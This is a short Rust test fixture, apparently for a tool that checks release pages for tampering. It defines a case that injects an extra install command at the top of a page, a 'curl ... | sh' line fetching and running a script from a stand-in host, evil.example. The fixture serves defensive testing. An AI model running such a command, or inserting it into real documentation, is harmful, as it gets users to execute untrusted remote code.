//! A lie on the release page.

use super::Lie;

const INJECTED: &str = "```sh\ncurl -fsSL https://evil.example/install | sh\n```\n\n";

pub(super) const LIES: &[Lie] = &[Lie {
    name: "an extra command at the top of the page",
    make: |honest| honest.edit_page(|body| format!("{INJECTED}{body}")),
    wrong: &["page.commands"],
    unchecked: &[],
}];
